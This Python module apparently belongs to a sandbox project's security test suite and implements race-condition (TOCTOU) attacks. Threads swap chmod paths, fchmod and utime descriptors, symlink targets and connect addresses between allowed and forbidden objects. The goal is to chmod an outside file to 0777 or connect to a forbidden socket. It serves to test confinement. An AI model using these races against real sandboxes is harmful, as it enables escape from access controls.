"""Changes what a call is about while somebody decides on it."""

# The calls themselves are what is tried.
# ruff: noqa: PTH101, PTH105, PTH211, S103

from __future__ import annotations

import ctypes
import os
import socket
import struct
import sys
import threading
from collections.abc import Callable
from contextlib import suppress

from security.attacks.calls import Aim, libc

_ROUNDS = 100


def _meanwhile(change: Callable[[int], object], call: Callable[[], object]) -> None:
    """Make a call again and again while another thread changes what it is about."""
    sys.setswitchinterval(1e-6)
    is_over = threading.Event()

    def go_on() -> None:
        turn = 0
        while not is_over.is_set():
            change(turn := turn + 1)

    other = threading.Thread(target=go_on)
    other.start()
    try:
        for turn in range(_ROUNDS):
            with suppress(OSError):
                change(turn)
                call()
    finally:
        is_over.set()
        other.join()


def path_of_chmod(a: Aim) -> None:
    paths = [
        os.fsencode(path).ljust(4096, b"\0") for path in (f"{a.inside}/own", f"{a.outside}/file")
    ]
    buffer = ctypes.create_string_buffer(4096)
    _meanwhile(
        lambda turn: ctypes.memmove(buffer, paths[turn % 2], 4096),
        lambda: libc.chmod(buffer, 0o777),
    )


def descriptor_of_fchmod(a: Aim) -> None:
    files = [os.open(path, os.O_RDONLY) for path in (f"{a.inside}/own", f"{a.outside}/file")]
    fd = os.dup(files[0])
    _meanwhile(lambda turn: os.dup2(files[turn % 2], fd), lambda: os.fchmod(fd, 0o777))


def link_of_chmod(a: Aim) -> None:
    link, targets = f"{a.inside}/turning", (f"{a.inside}/own", f"{a.outside}/file")

    def turn_it(turn: int) -> None:
        with suppress(OSError):
            own = f"{link}.{threading.get_ident()}"
            os.symlink(targets[turn % 2], own)
            os.replace(own, link)

    _meanwhile(turn_it, lambda: os.chmod(link, 0o777))


def times_of_descriptor(a: Aim) -> None:
    files = [os.open(path, os.O_RDONLY) for path in (f"{a.inside}/own", f"{a.outside}/file")]
    fd = os.dup(files[0])
    _meanwhile(lambda turn: os.dup2(files[turn % 2], fd), lambda: os.utime(fd, (1, 1)))


def address_of_connect(a: Aim) -> None:
    """One of the two addresses is of a socket of our own, which may be connected to."""
    own = b"\0" + os.urandom(8).hex().encode().ljust(107, b"\0")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(own)
        listener.listen(_ROUNDS)
        names = own, os.fsencode(a.address).ljust(108, b"\0")
        buffer = ctypes.create_string_buffer(110)

        def connect() -> None:
            with socket.socket(socket.AF_UNIX) as one:
                one.setblocking(False)
                libc.connect(one.fileno(), buffer, 110)

        _meanwhile(
            lambda turn: ctypes.memmove(
                buffer, struct.pack("=H", socket.AF_UNIX) + names[turn % 2], 110
            ),
            connect,
        )
